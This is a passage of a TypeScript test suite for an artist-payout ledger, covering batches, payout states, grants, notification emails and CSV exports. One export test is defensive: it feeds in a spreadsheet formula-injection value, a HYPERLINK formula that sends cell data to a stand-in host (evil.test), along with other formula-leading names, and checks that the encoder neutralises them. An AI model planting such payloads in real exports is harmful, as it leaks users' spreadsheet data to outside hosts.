import { and, asc, eq, inArray } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { UserError } from "~/.server/errors";
import type { Currency } from "~/lib/money";
import {
  BATCH_CSV_HEADER,
  batchCsv,
  csvCell,
  LEDGER_CSV_HEADER,
  ledgerCsv,
} from "~/.server/money/exports";
import { awardGrant, grantInput } from "~/.server/money/grants";
import {
  createBatch,
  loadBatch,
  markBatch,
  markPayout,
  payoutKey,
  previewBatch,
} from "~/.server/money/payouts";
import { reverseEntry } from "~/.server/money/ledger";
import { setPayoutCurrency } from "~/.server/money/rates";
import { statementItems, statementTotals } from "~/.server/money/statement";
import {
  auditLog,
  emailOutbox,
  grants,
  ledgerEntries,
  notifications,
  payoutBatches,
  payouts,
  type User,
} from "~db/schema";
import { useTestDatabase } from "../../support/db";
import { acting, createUser } from "../../support/factories";
import {
  approvedHours,
  balanceMismatches,
  ledgerSum,
  moneySnapshot,
  MONEY_OPTIONS,
  publishCard,
  refusal,
  storedBalance,
} from "../../support/money";

const t = useTestDatabase();

const GRANT_OPTIONS = { ...MONEY_OPTIONS, approvalThresholdMinor: 50_000 };

/** Three USD artists owed 80.00, 50.00 and 20.00, one EUR artist owed 35.00, one owed nothing. */
async function owedArtists() {
  const admin = await createUser(t.db, { role: "admin", displayName: "Morgan Finance" });
  await publishCard(t.db, admin);
  await publishCard(t.db, admin, { currency: "EUR", hourlyMinor: "35.00" });
  const ines = await createUser(t.db, { displayName: "Ines Okafor", email: "ines@example.test" });
  const jun = await createUser(t.db, { displayName: "Jun Park", email: "jun@example.test" });
  const kit = await createUser(t.db, { displayName: "Kit Alvarez", email: "kit@example.test" });
  const lea = await createUser(t.db, { displayName: "Léa Martin", email: "lea@example.test" });
  const nobody = await createUser(t.db, { displayName: "Nils Berg", email: "nils@example.test" });
  await setPayoutCurrency(t.db, acting(admin), lea.id, "EUR");
  await approvedHours(t.db, admin, ines, "2", "2026-06-08");
  await approvedHours(t.db, admin, jun, "1.25", "2026-06-09");
  await approvedHours(t.db, admin, kit, "0.5", "2026-06-09");
  await approvedHours(t.db, admin, lea, "1", "2026-06-10");
  return { admin, ines, jun, kit, lea, nobody };
}

const newBatch = (admin: User, currency: Currency = "USD", batchKey = crypto.randomUUID()) =>
  createBatch(t.db, acting(admin), { currency, batchKey, note: "June testing sessions" });

const auditOf = (action: string) =>
  t.db.select().from(auditLog).where(eq(auditLog.action, action)).orderBy(asc(auditLog.id));

/** RFC 4180, enough for what the exports write: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(body: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && body[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  expect(cell, "the body ends with CRLF").toBe("");
  return rows;
}

describe("previewing and creating a batch", () => {
  it("the preview lists only positive balances of that currency, with the total", async () => {
    const { admin, ines, jun, kit } = await owedArtists();
    // Kit is paid out and has a balance row of zero; it must not show.
    await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [kit.id],
    });
    expect(await storedBalance(t.db, kit.id, "USD")).toBe(0);
    const usd = await previewBatch(t.db, acting(admin), "USD");
    expect(usd.rows.map((r) => [r.name, r.balanceMinor])).toEqual([
      ["Ines Okafor", 8000],
      ["Jun Park", 5000],
    ]);
    expect(usd.rows.map((r) => r.userId)).toEqual([ines.id, jun.id]);
    expect(usd.totalMinor).toBe(13000);
    const eur = await previewBatch(t.db, acting(admin), "EUR");
    expect(eur.rows.map((r) => [r.name, r.balanceMinor])).toEqual([["Léa Martin", 3500]]);
    expect((await previewBatch(t.db, acting(admin), "GBP")).rows).toEqual([]);
  });

  it("a batch pays exactly the owed balances of its currency and debits them to zero", async () => {
    const { admin, ines, jun, kit, lea, nobody } = await owedArtists();
    const batchKey = crypto.randomUUID();
    const result = await newBatch(admin, "USD", batchKey);
    expect(result.created).toBe(true);
    expect(result.batch).toMatchObject({
      currency: "USD",
      batchKey,
      createdBy: admin.id,
      note: "June testing sessions",
    });
    const byUser = new Map(result.payouts.map((p) => [p.userId, p]));
    expect([...byUser.keys()].sort()).toEqual([ines.id, jun.id, kit.id].sort());
    expect(byUser.get(ines.id)!.amountMinor).toBe(8000);
    expect(byUser.get(jun.id)!.amountMinor).toBe(5000);
    expect(byUser.get(kit.id)!.amountMinor).toBe(2000);
    for (const p of result.payouts) {
      expect(p).toMatchObject({
        batchId: result.batch.id,
        currency: "USD",
        state: "created",
        idempotencyKey: payoutKey(batchKey, p.userId),
      });
      const debits = await t.db
        .select()
        .from(ledgerEntries)
        .where(eq(ledgerEntries.payoutId, p.id));
      expect(debits).toHaveLength(1);
      expect(debits[0]).toMatchObject({
        kind: "payout",
        amountMinor: -p.amountMinor,
        currency: "USD",
      });
      // It covers through the artist's last entry before it.
      const [earning] = await t.db
        .select()
        .from(ledgerEntries)
        .where(and(eq(ledgerEntries.userId, p.userId), eq(ledgerEntries.kind, "earning")));
      expect(p.throughEntryId).toBe(earning!.id);
      expect(await storedBalance(t.db, p.userId, "USD")).toBe(0);
    }
    // The EUR artist and the artist owed nothing are untouched.
    expect(await storedBalance(t.db, lea.id, "EUR")).toBe(3500);
    expect(await t.db.select().from(payouts).where(eq(payouts.userId, nobody.id))).toEqual([]);
    const [audit] = await auditOf("money.payout_batch_created");
    expect(audit).toMatchObject({
      actorId: admin.id,
      subjectId: result.batch.id,
      data: { currency: "USD", payouts: 3, totalMinor: 15000 },
    });
    // The artist's statement: the payout is in progress, the earning is covered by it.
    const [totals] = await statementTotals(t.db, acting(ines), ines.id);
    expect(totals).toMatchObject({
      currency: "USD",
      earnedMinor: 8000,
      inPayoutMinor: 8000,
      paidMinor: 0,
      payableMinor: 0,
    });
    const { items } = await statementItems(t.db, acting(ines), ines.id);
    expect(items.map((i) => [i.kind, i.amountMinor, i.status])).toEqual([
      ["payout", -8000, "in_payout"],
      ["earning", 8000, "in_payout"],
    ]);
  });

  it("a batch limited to some artists pays only them", async () => {
    const { admin, ines, jun, kit } = await owedArtists();
    const { payouts: made } = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [jun.id, kit.id],
    });
    expect(made.map((p) => p.userId).sort()).toEqual([jun.id, kit.id].sort());
    expect(await storedBalance(t.db, ines.id, "USD")).toBe(8000);
  });

  it("nobody owed in that currency is a 409 on the currency field, and no batch is recorded", async () => {
    const { admin } = await owedArtists();
    const before = await moneySnapshot(t.db);
    const error = await refusal(newBatch(admin, "GBP"));
    expect(error).toMatchObject({ status: 409, field: "currency" });
    expect(error.message).toMatch(/Nobody has an approved, unpaid GBP balance/);
    expect(await moneySnapshot(t.db)).toEqual(before);
  });

  it("the same batch key again returns the same batch, created: false, and pays nothing new", async () => {
    const { admin, ines } = await owedArtists();
    const batchKey = crypto.randomUUID();
    const first = await newBatch(admin, "USD", batchKey);
    // Ines earns again meanwhile: a resent form must not pay it.
    await approvedHours(t.db, admin, ines, "1", "2026-06-15");
    const before = await moneySnapshot(t.db);
    const again = await newBatch(admin, "USD", batchKey);
    expect(again.created).toBe(false);
    expect(again.batch).toEqual(first.batch);
    expect(again.payouts.map((p) => p.id).sort()).toEqual(first.payouts.map((p) => p.id).sort());
    expect(await moneySnapshot(t.db)).toEqual(before);
    expect(await storedBalance(t.db, ines.id, "USD")).toBe(4000);
    expect(await auditOf("money.payout_batch_created")).toHaveLength(1);
  });

  it("50 concurrent identical requests record one batch, one payout per artist, one debit each", async () => {
    const { admin, ines, jun, kit, lea } = await owedArtists();
    const batchKey = crypto.randomUUID();
    const results = await Promise.all(
      Array.from({ length: 50 }, () => newBatch(admin, "USD", batchKey)),
    );
    expect(new Set(results.map((r) => r.batch.id)).size).toBe(1);
    expect(results.filter((r) => r.created)).toHaveLength(1);
    for (const r of results) expect(r.payouts).toHaveLength(3);
    expect(await t.db.select().from(payoutBatches)).toHaveLength(1);
    const made = await t.db.select().from(payouts);
    expect(made.map((p) => [p.userId, p.amountMinor]).sort()).toEqual(
      [
        [ines.id, 8000],
        [jun.id, 5000],
        [kit.id, 2000],
      ].sort(),
    );
    const debits = await t.db.select().from(ledgerEntries).where(eq(ledgerEntries.kind, "payout"));
    expect(debits).toHaveLength(3);
    for (const artist of [ines, jun, kit]) {
      expect(await ledgerSum(t.db, artist.id, "USD")).toBe(0);
      expect(await storedBalance(t.db, artist.id, "USD")).toBe(0);
    }
    expect(await storedBalance(t.db, lea.id, "EUR")).toBe(3500);
    expect(await auditOf("money.payout_batch_created")).toHaveLength(1);
    expect(await balanceMismatches(t.db)).toEqual([]);
  });

  it("10 concurrent batches with different keys pay each balance once in total", async () => {
    const { admin, ines, jun, kit } = await owedArtists();
    const results = await Promise.allSettled(Array.from({ length: 10 }, () => newBatch(admin)));
    const made = results.filter((r) => r.status === "fulfilled");
    expect(made.length).toBeGreaterThanOrEqual(1);
    for (const r of results)
      if (r.status === "rejected") {
        expect(r.reason).toBeInstanceOf(UserError);
        expect((r.reason as UserError).status).toBe(409);
      }
    const rows = await t.db.select().from(payouts);
    expect(rows.map((p) => [p.userId, p.amountMinor]).sort()).toEqual(
      [
        [ines.id, 8000],
        [jun.id, 5000],
        [kit.id, 2000],
      ].sort(),
    );
    // A batch that paid nobody was not kept.
    const batches = await t.db.select().from(payoutBatches);
    expect(batches).toHaveLength(made.length);
    for (const b of batches)
      expect(rows.filter((p) => p.batchId === b.id).length).toBeGreaterThan(0);
    for (const artist of [ines, jun, kit])
      expect(await storedBalance(t.db, artist.id, "USD")).toBe(0);
    expect(await balanceMismatches(t.db)).toEqual([]);
  });
});

describe("the amounts the preview showed", () => {
  it("a batch pays what the preview showed, or refuses (409 on the form) naming each change", async () => {
    const { admin, ines, jun, kit } = await owedArtists();
    const preview = await previewBatch(t.db, acting(admin), "USD");
    const expected = Object.fromEntries(preview.rows.map((r) => [r.userId, r.balanceMinor]));
    expect(expected).toEqual({ [ines.id]: 8000, [jun.id]: 5000, [kit.id]: 2000 });
    // Between the preview and the click: Ines earns more, Kit's earning is reversed.
    await approvedHours(t.db, admin, ines, "0.5", "2026-06-12");
    const [kits] = await t.db.select().from(ledgerEntries).where(eq(ledgerEntries.userId, kit.id));
    await reverseEntry(t.db, acting(admin), kits!, "Logged twice");
    const before = await moneySnapshot(t.db);
    const error = await refusal(
      createBatch(t.db, acting(admin), {
        currency: "USD",
        batchKey: crypto.randomUUID(),
        userIds: [ines.id, jun.id, kit.id],
        expected,
      }),
    );
    expect(error).toMatchObject({
      status: 409,
      field: "form",
      message: "Ines Okafor: $80.00 → $100.00; Kit Alvarez: $20.00 → $0.00; review the new totals.",
    });
    expect(await moneySnapshot(t.db)).toEqual(before);
    // With the new totals it goes through, and pays exactly them.
    const fresh = await previewBatch(t.db, acting(admin), "USD");
    const made = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: fresh.rows.map((r) => r.userId),
      expected: Object.fromEntries(fresh.rows.map((r) => [r.userId, r.balanceMinor])),
    });
    expect(made.payouts.map((p) => [p.userId, p.amountMinor]).sort()).toEqual(
      [
        [ines.id, 10000],
        [jun.id, 5000],
      ].sort(),
    );
  });
});

describe("a payout's states", () => {
  it("created → sent → paid, with the reference and times recorded and each step audited", async () => {
    const { admin, ines } = await owedArtists();
    const { payouts: made } = await newBatch(admin);
    const payout = made.find((p) => p.userId === ines.id)!;
    const sent = await markPayout(
      t.db,
      acting(admin),
      payout,
      { to: "sent", reference: "GR-PAY-2026-06-0007" },
      MONEY_OPTIONS,
    );
    expect(sent.payout).toMatchObject({ state: "sent", reference: "GR-PAY-2026-06-0007" });
    expect(sent.payout.sentAt).toBeInstanceOf(Date);
    const paid = await markPayout(t.db, acting(admin), payout, { to: "paid" }, MONEY_OPTIONS);
    expect(paid.payout.state).toBe("paid");
    expect(paid.payout.paidAt).toBeInstanceOf(Date);
    expect(paid.emailIds).toEqual([]);
    // Paying records that money arrived; it does not move the balance again.
    expect(await storedBalance(t.db, ines.id, "USD")).toBe(0);
    expect(await ledgerSum(t.db, ines.id, "USD")).toBe(0);
    const [totals] = await statementTotals(t.db, acting(admin), ines.id);
    expect(totals).toMatchObject({
      earnedMinor: 8000,
      paidMinor: 8000,
      inPayoutMinor: 0,
      payableMinor: 0,
    });
    const { items } = await statementItems(t.db, acting(ines), ines.id);
    expect(items.map((i) => i.status)).toEqual(["paid", "paid"]);
    for (const action of ["money.payout_sent", "money.payout_paid"]) {
      const rows = await auditOf(action);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({
        actorId: admin.id,
        subjectType: "payout",
        subjectId: payout.id,
        data: { amountMinor: 8000, currency: "USD" },
      });
    }
  });

  it("refuses moves the state machine does not allow with a 409, changing nothing", async () => {
    const { admin, ines, jun } = await owedArtists();
    const { payouts: made } = await newBatch(admin);
    const paid = made.find((p) => p.userId === ines.id)!;
    const created = made.find((p) => p.userId === jun.id)!;
    await markPayout(t.db, acting(admin), paid, { to: "sent" }, MONEY_OPTIONS);
    await markPayout(t.db, acting(admin), paid, { to: "paid" }, MONEY_OPTIONS);
    const before = await moneySnapshot(t.db);
    const cases = [
      [paid, { to: "sent" }, /A paid payout cannot be marked sent/],
      [paid, { to: "paid" }, /already paid/],
      [paid, { to: "failed", reason: "Changed our mind" }, /A paid payout cannot be marked failed/],
      [created, { to: "paid" }, /A created payout cannot be marked paid/],
    ] as const;
    for (const [payout, input, message] of cases) {
      const error = await refusal(markPayout(t.db, acting(admin), payout, input, MONEY_OPTIONS));
      expect(error.status).toBe(409);
      expect(error.message).toMatch(message);
    }
    expect(
      (
        await refusal(
          markPayout(
            t.db,
            acting(admin),
            { id: "no-such-payout", batchId: created.batchId },
            { to: "paid" },
            MONEY_OPTIONS,
          ),
        )
      ).status,
    ).toBe(404);
    expect(await moneySnapshot(t.db)).toEqual(before);
  });

  it("failed returns the money to the balance, and a new batch can pay it", async () => {
    const { admin, ines } = await owedArtists();
    const { payouts: made } = await newBatch(admin);
    const first = made.find((p) => p.userId === ines.id)!;
    await markPayout(t.db, acting(admin), first, { to: "sent" }, MONEY_OPTIONS);
    const failed = await markPayout(
      t.db,
      acting(admin),
      first,
      { to: "failed", reason: "IBAN closed by the bank" },
      MONEY_OPTIONS,
    );
    expect(failed.payout).toMatchObject({
      state: "failed",
      failureReason: "IBAN closed by the bank",
    });
    expect(failed.payout.failedAt).toBeInstanceOf(Date);
    expect(await storedBalance(t.db, ines.id, "USD")).toBe(8000);
    const [debit] = await t.db
      .select()
      .from(ledgerEntries)
      .where(eq(ledgerEntries.payoutId, first.id));
    const [returned] = await t.db
      .select()
      .from(ledgerEntries)
      .where(eq(ledgerEntries.reversesEntryId, debit!.id));
    expect(returned).toMatchObject({
      kind: "reversal",
      amountMinor: 8000,
      description: "Payout failed: IBAN closed by the bank",
    });
    let statement = await statementItems(t.db, acting(ines), ines.id);
    expect(statement.items.map((i) => [i.kind, i.status])).toEqual([
      ["reversal", null],
      ["payout", "returned"],
      ["earning", "payable"],
    ]);
    expect((await auditOf("money.payout_failed"))[0]).toMatchObject({
      subjectId: first.id,
      data: { reason: "IBAN closed by the bank" },
    });

    const second = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [ines.id],
    });
    expect(second.payouts.map((p) => [p.userId, p.amountMinor])).toEqual([[ines.id, 8000]]);
    expect(await storedBalance(t.db, ines.id, "USD")).toBe(0);
    statement = await statementItems(t.db, acting(ines), ines.id);
    expect(statement.items.at(-1)).toMatchObject({ kind: "earning", status: "in_payout" });
    const [totals] = await statementTotals(t.db, acting(ines), ines.id);
    expect(totals).toMatchObject({
      earnedMinor: 8000,
      inPayoutMinor: 8000,
      paidMinor: 0,
      payableMinor: 0,
    });
    // A failed payout is final.
    expect(
      (await refusal(markPayout(t.db, acting(admin), first, { to: "sent" }, MONEY_OPTIONS))).status,
    ).toBe(409);
  });

  it("markPayout is scoped to the batch whose page it is on: a payout of another batch is a 404", async () => {
    const { admin, ines, lea } = await owedArtists();
    const usd = await newBatch(admin, "USD");
    const eur = await newBatch(admin, "EUR");
    const leas = eur.payouts.find((p) => p.userId === lea.id)!;
    const before = await moneySnapshot(t.db);
    const error = await refusal(
      markPayout(
        t.db,
        acting(admin),
        { id: leas.id, batchId: usd.batch.id },
        { to: "failed", reason: "Wrong page" },
        MONEY_OPTIONS,
      ),
    );
    expect(error).toMatchObject({ status: 404, message: "That payout does not exist." });
    expect(await moneySnapshot(t.db)).toEqual(before);
    const ines1 = usd.payouts.find((p) => p.userId === ines.id)!;
    const sent = await markPayout(
      t.db,
      acting(admin),
      { id: ines1.id, batchId: usd.batch.id },
      { to: "sent" },
      MONEY_OPTIONS,
    );
    expect(sent.payout.state).toBe("sent");
  });

  it("markBatch moves every payout that can make the move and leaves the others", async () => {
    const { admin, ines, jun, kit } = await owedArtists();
    const { batch, payouts: made } = await newBatch(admin);
    const kits = made.find((p) => p.userId === kit.id)!;
    await markPayout(
      t.db,
      acting(admin),
      kits,
      { to: "failed", reason: "Account unverified" },
      MONEY_OPTIONS,
    );
    const sent = await markBatch(t.db, acting(admin), batch.id, "sent", MONEY_OPTIONS);
    expect(sent.count).toBe(2);
    expect(sent.emailIds).toHaveLength(2);
    const states = async () =>
      Object.fromEntries(
        (await t.db.select().from(payouts).where(eq(payouts.batchId, batch.id))).map((p) => [
          p.userId,
          p.state,
        ]),
      );
    expect(await states()).toEqual({ [ines.id]: "sent", [jun.id]: "sent", [kit.id]: "failed" });
    // Nothing is created any more: marking sent again is a 409 that changes nothing.
    const before = await moneySnapshot(t.db);
    const again = await refusal(markBatch(t.db, acting(admin), batch.id, "sent", MONEY_OPTIONS));
    expect(again.status).toBe(409);
    expect(await moneySnapshot(t.db)).toEqual(before);
    const paid = await markBatch(t.db, acting(admin), batch.id, "paid", MONEY_OPTIONS);
    expect(paid).toEqual({ count: 2, emailIds: [] });
    expect(await states()).toEqual({ [ines.id]: "paid", [jun.id]: "paid", [kit.id]: "failed" });
    expect(
      (await refusal(markBatch(t.db, acting(admin), "no-such-batch", "paid", MONEY_OPTIONS)))
        .status,
    ).toBe(404);
    const loaded = await loadBatch(t.db, acting(admin), batch.id);
    expect(loaded.payouts.map((r) => [r.name, r.payout.state])).toEqual([
      ["Ines Okafor", "paid"],
      ["Jun Park", "paid"],
      ["Kit Alvarez", "failed"],
    ]);
  });

  it("a grant becomes paid when the payout carrying it is marked paid, not before", async () => {
    const { admin, ines } = await owedArtists();
    const { grant } = await awardGrant(
      t.db,
      acting(admin),
      grantInput.parse({
        userId: ines.id,
        amountMinor: "300",
        currency: "USD",
        purpose: "Travel to the Rotterdam screening",
      }),
      GRANT_OPTIONS,
    );
    expect(grant.state).toBe("approved");
    const { payouts: made } = await newBatch(admin, "USD");
    const payout = made.find((p) => p.userId === ines.id)!;
    expect(payout.amountMinor).toBe(38000);
    // A grant approved after the batch is not carried by it.
    const { grant: later } = await awardGrant(
      t.db,
      acting(admin),
      grantInput.parse({
        userId: ines.id,
        amountMinor: "45",
        currency: "USD",
        purpose: "Hard drive",
      }),
      GRANT_OPTIONS,
    );
    const stateOf = async (id: string) =>
      (await t.db.select().from(grants).where(eq(grants.id, id)))[0]!;
    await markPayout(t.db, acting(admin), payout, { to: "sent" }, MONEY_OPTIONS);
    expect((await stateOf(grant.id)).state).toBe("approved");
    await markPayout(t.db, acting(admin), payout, { to: "paid" }, MONEY_OPTIONS);
    const paidGrant = await stateOf(grant.id);
    expect(paidGrant.state).toBe("paid");
    expect(paidGrant.paidAt).toBeInstanceOf(Date);
    expect((await stateOf(later.id)).state).toBe("approved");
  });
});

describe("which payout carries a credit", () => {
  it("an older payout failing after a newer one was made returns its credits: payable, and a grant is not paid by the newer one", async () => {
    const { admin, ines } = await owedArtists();
    const statusOf = async (entryId: number) =>
      (await statementItems(t.db, acting(ines), ines.id)).items.find((i) => i.id === entryId)!
        .status;
    // Ines's 80.00 of hours go into P1.
    const first = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [ines.id],
    });
    const p1 = first.payouts[0]!;
    // E1: a grant approved after P1 was made...
    const { grant } = await awardGrant(
      t.db,
      acting(admin),
      grantInput.parse({
        userId: ines.id,
        amountMinor: "300",
        currency: "USD",
        purpose: "Travel to the Rotterdam screening",
      }),
      GRANT_OPTIONS,
    );
    const [e1] = await t.db.select().from(ledgerEntries).where(eq(ledgerEntries.grantId, grant.id));
    // ...goes into P2, made while P1 is still open; then E3, more hours, into P3.
    const second = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [ines.id],
    });
    const p2 = second.payouts[0]!;
    expect(p2.amountMinor).toBe(30000);
    const hours = await approvedHours(t.db, admin, ines, "1", "2026-06-18");
    const [e3] = await t.db
      .select()
      .from(ledgerEntries)
      .where(eq(ledgerEntries.contributionId, hours.id));
    const third = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [ines.id],
    });
    const p3 = third.payouts[0]!;
    expect(await statusOf(e1!.id)).toBe("in_payout");
    expect(await statusOf(e3!.id)).toBe("in_payout");

    // P2 (which carries the grant) fails after P3 was made: the grant's money is payable again.
    await markPayout(
      t.db,
      acting(admin),
      p2,
      { to: "failed", reason: "The bank returned it" },
      MONEY_OPTIONS,
    );
    expect(await storedBalance(t.db, ines.id, "USD")).toBe(30000);
    expect(await statusOf(e1!.id)).toBe("payable");
    expect(await statusOf(e3!.id)).toBe("in_payout");

    // P3 and P1 are paid: neither carries the grant, which stays approved, and payable.
    for (const payout of [p3, p1]) {
      await markPayout(t.db, acting(admin), payout, { to: "sent" }, MONEY_OPTIONS);
      await markPayout(t.db, acting(admin), payout, { to: "paid" }, MONEY_OPTIONS);
    }
    const stateOf = async () =>
      (await t.db.select().from(grants).where(eq(grants.id, grant.id)))[0]!.state;
    expect(await stateOf()).toBe("approved");
    expect(await statusOf(e1!.id)).toBe("payable");
    expect(await statusOf(e3!.id)).toBe("paid");

    // The next batch carries it, says so, and paying that batch pays the grant.
    const fourth = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [ines.id],
    });
    const p4 = fourth.payouts[0]!;
    expect(p4.amountMinor).toBe(30000);
    expect(await statusOf(e1!.id)).toBe("in_payout");
    const { emailIds } = await markPayout(t.db, acting(admin), p4, { to: "sent" }, MONEY_OPTIONS);
    const [email] = await t.db.select().from(emailOutbox).where(inArray(emailOutbox.id, emailIds));
    expect(email!.text).toContain("covering 1 item");
    await markPayout(t.db, acting(admin), p4, { to: "paid" }, MONEY_OPTIONS);
    expect(await stateOf()).toBe("paid");
    expect(await statusOf(e1!.id)).toBe("paid");
  });
});

describe("telling the artist", () => {
  it("a sent payout queues one payout-sent email and one notification; paid and failed send none", async () => {
    const { admin, ines, jun } = await owedArtists();
    // Ines has two earnings and a grant in this payout: three statement items.
    await approvedHours(t.db, admin, ines, "0.25", "2026-06-16");
    await awardGrant(
      t.db,
      acting(admin),
      grantInput.parse({
        userId: ines.id,
        amountMinor: "120",
        currency: "USD",
        purpose: "Lens rental",
      }),
      GRANT_OPTIONS,
    );
    const { payouts: made } = await newBatch(admin);
    const payout = made.find((p) => p.userId === ines.id)!;
    expect(payout.amountMinor).toBe(8000 + 1000 + 12000);
    const emailsBefore = await t.db.select().from(emailOutbox);
    const { emailIds } = await markPayout(
      t.db,
      acting(admin),
      payout,
      { to: "sent", reference: "GR-PAY-2026-06-0042" },
      MONEY_OPTIONS,
    );
    expect(emailIds).toHaveLength(1);
    const added = (await t.db.select().from(emailOutbox)).filter(
      (e) => !emailsBefore.some((b) => b.id === e.id),
    );
    expect(added).toHaveLength(1);
    expect(added[0]).toMatchObject({
      id: emailIds[0],
      recipient: "ines@example.test",
      template: "payout-sent",
      subject: "Your payout of $210.00 was sent",
      status: "queued",
    });
    expect(added[0]!.text).toContain("covering 3 items");
    expect(added[0]!.text).toContain("GR-PAY-2026-06-0042");
    expect(added[0]!.text).toContain("http://localhost:3000/earnings#statement");
    const notes = await t.db
      .select()
      .from(notifications)
      .where(and(eq(notifications.userId, ines.id), eq(notifications.kind, "payout_sent")));
    expect(notes).toHaveLength(1);
    expect(notes[0]).toMatchObject({
      title: "Payout sent: $210.00",
      body: "Reference GR-PAY-2026-06-0042",
      link: "/earnings#statement",
    });

    const countBefore = (await t.db.select().from(emailOutbox)).length;
    await markPayout(t.db, acting(admin), payout, { to: "paid" }, MONEY_OPTIONS);
    const juns = made.find((p) => p.userId === jun.id)!;
    await markPayout(
      t.db,
      acting(admin),
      juns,
      { to: "failed", reason: "Wrong account" },
      MONEY_OPTIONS,
    );
    expect(await t.db.select().from(emailOutbox)).toHaveLength(countBefore);
    expect(
      await t.db
        .select()
        .from(notifications)
        .where(and(eq(notifications.userId, jun.id), eq(notifications.kind, "payout_sent"))),
    ).toEqual([]);
  });

  it("after a failed payout, the next one's email counts the items it now covers", async () => {
    const { admin, jun } = await owedArtists();
    const first = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [jun.id],
    });
    await markPayout(
      t.db,
      acting(admin),
      first.payouts[0]!,
      { to: "failed", reason: "Returned" },
      MONEY_OPTIONS,
    );
    await approvedHours(t.db, admin, jun, "1", "2026-06-17");
    const second = await createBatch(t.db, acting(admin), {
      currency: "USD",
      batchKey: crypto.randomUUID(),
      userIds: [jun.id],
    });
    expect(second.payouts[0]!.amountMinor).toBe(9000);
    const { emailIds } = await markPayout(
      t.db,
      acting(admin),
      second.payouts[0]!,
      { to: "sent" },
      MONEY_OPTIONS,
    );
    const [email] = await t.db.select().from(emailOutbox).where(inArray(emailOutbox.id, emailIds));
    expect(email!.text).toContain("covering 2 items");
  });
});

describe("CSV exports", () => {
  it("batchCsv: one row per payout, the documented columns, amounts as decimal and minor units", async () => {
    const { admin, ines, jun, kit } = await owedArtists();
    const { batch, payouts: made } = await newBatch(admin);
    await markPayout(
      t.db,
      acting(admin),
      made.find((p) => p.userId === ines.id)!,
      { to: "sent", reference: "GR-PAY-7" },
      MONEY_OPTIONS,
    );
    const { filename, body } = await batchCsv(t.db, acting(admin), batch.id);
    expect(filename).toMatch(
      new RegExp(`^greenroom-payouts-\\d{4}-\\d{2}-\\d{2}-${batch.id.slice(0, 8)}\\.csv$`),
    );
    const [header, ...rows] = parseCsv(body);
    expect(header).toEqual(BATCH_CSV_HEADER);
    expect(header).toEqual([
      "payout_id",
      "batch_id",
      "artist_id",
      "artist_name",
      "artist_email",
      "currency",
      "amount",
      "amount_minor",
      "state",
      "idempotency_key",
      "reference",
      "created_at",
      "sent_at",
      "paid_at",
      "failed_at",
      "failure_reason",
    ]);
    const col = (row: string[], name: string) => row[header!.indexOf(name)];
    expect(
      rows.map((r) => [
        col(r, "artist_name"),
        col(r, "amount"),
        col(r, "amount_minor"),
        col(r, "state"),
      ]),
    ).toEqual([
      ["Ines Okafor", "80.00", "8000", "sent"],
      ["Jun Park", "50.00", "5000", "created"],
      ["Kit Alvarez", "20.00", "2000", "created"],
    ]);
    const inesRow = rows.find((r) => col(r, "artist_id") === ines.id)!;
    expect(col(inesRow, "reference")).toBe("GR-PAY-7");
    expect(col(inesRow, "batch_id")).toBe(batch.id);
    expect(col(inesRow, "artist_email")).toBe("ines@example.test");
    expect(col(inesRow, "idempotency_key")).toBe(payoutKey(batch.batchKey, ines.id));
    expect(new Date(col(inesRow, "sent_at")!).getTime()).not.toBeNaN();
    expect(col(inesRow, "paid_at")).toBe("");
    expect(rows.map((r) => col(r, "artist_id")).sort()).toEqual([ines.id, jun.id, kit.id].sort());
  });

  it("text a spreadsheet would run as a formula is made inert, and quoting survives", async () => {
    const admin = await createUser(t.db, { role: "admin" });
    await publishCard(t.db, admin);
    const mallory = await createUser(t.db, {
      displayName: '=HYPERLINK("http://evil.test/?x="&A1,"Open")',
      email: "mallory@example.test",
    });
    const plus = await createUser(t.db, { displayName: "+1 555 0100", email: "plus@example.test" });
    const at = await createUser(t.db, { displayName: "@SUM(A1:A9)", email: "at@example.test" });
    for (const artist of [mallory, plus, at]) await approvedHours(t.db, admin, artist, "1");
    const { batch } = await newBatch(admin);
    const { body } = await batchCsv(t.db, acting(admin), batch.id);
    const [header, ...rows] = parseCsv(body);
    const names = rows.map((r) => r[header!.indexOf("artist_name")]).sort();
    expect(names).toEqual(
      ["'+1 555 0100", '\'=HYPERLINK("http://evil.test/?x="&A1,"Open")', "'@SUM(A1:A9)"].sort(),
    );
    for (const row of rows) expect(row).toHaveLength(header!.length);
    // The cell encoder on its own.
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("\tcmd")).toBe("'\tcmd");
    expect(csvCell('Say "hi", then go')).toBe('"Say ""hi"", then go"');
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell(-8000)).toBe("-8000");
    expect(csvCell(null)).toBe("");
  });

  it("ledgerCsv: the documented columns, and only entries whose day is inside the period", async () => {
    const admin = await createUser(t.db, { role: "admin" });
    const ines = await createUser(t.db, { displayName: "Ines Okafor", email: "ines@example.test" });
    await publishCard(t.db, admin);
    await approvedHours(t.db, admin, ines, "1", "2026-05-31");
    await approvedHours(t.db, admin, ines, "2", "2026-06-01");
